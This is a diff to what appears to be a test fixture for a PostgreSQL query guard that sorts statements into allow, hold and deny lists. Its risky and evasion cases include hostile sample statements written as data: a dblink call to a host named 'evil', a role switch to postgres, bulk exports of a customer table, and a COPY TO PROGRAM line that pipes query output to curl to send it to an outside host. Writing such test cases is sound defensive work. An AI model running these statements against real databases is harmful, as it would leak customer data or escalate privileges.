@@ -132,6 +132,25 @@ ORDINARY = [
     ("ROLLBACK TO SAVEPOINT sp1", ALLOW),
     ("LISTEN orders_changed", ALLOW),
     ("DISCARD ALL", ALLOW),
+    # --- what pg_dump --schema-only sends (test_pg_dump.py captures the real thing) -----
+    ("SET row_security = off", ALLOW),
+    ("SET row_security = on", ALLOW),
+    ("BEGIN ISOLATION LEVEL REPEATABLE READ, READ ONLY", ALLOW),
+    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", ALLOW),
+    ("LOCK TABLE public.customers, public.orders IN ACCESS SHARE MODE", ALLOW),
+    (
+        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings "
+        "WHERE name = 'restrict_nonsystem_relation_kind'",
+        ALLOW,
+    ),
+    (
+        "SELECT count(*) FROM pg_subscription "
+        "WHERE subdbid = (SELECT oid FROM pg_database WHERE datname = current_database())",
+        ALLOW,
+    ),
+    # --- COPY of a bounded query to the client is that query (psql \copy, asyncpg) ------
+    ("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT WITH CSV", ALLOW),
+    ("COPY (SELECT id FROM orders WHERE id <= 100) TO STDOUT", ALLOW),
     # --- bounded reads, BI aggregates ---------------------------------------------------
     ("SELECT id, total, status FROM orders WHERE id = 42", ALLOW),
     ("SELECT id, total FROM orders WHERE customer_id = $1", ALLOW),
@@ -200,7 +219,7 @@ RISKY = [
     ("SELECT set_config('role', 'postgres', false)", HOLD),
     # --- export -------------------------------------------------------------------------
     ("COPY customers TO STDOUT", HOLD),
-    ("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT WITH CSV", HOLD),
+    ("COPY (SELECT * FROM customers) TO STDOUT WITH CSV", HOLD),
     ("SELECT dblink_exec('host=evil', 'select 1')", HOLD),
     # --- dump ---------------------------------------------------------------------------
     ("SELECT * FROM customers", HOLD),
@@ -273,7 +292,7 @@ EVASIONS = [
         HOLD,
     ),
     # a harmless read and an export in one statement: read's allow cannot carry it
-    ("COPY (SELECT id FROM orders WHERE id = 1) TO STDOUT", HOLD),
+    ("COPY (SELECT id FROM orders WHERE id = 1) TO PROGRAM 'curl -d @- https://x'", DENY),
 ]
 
 
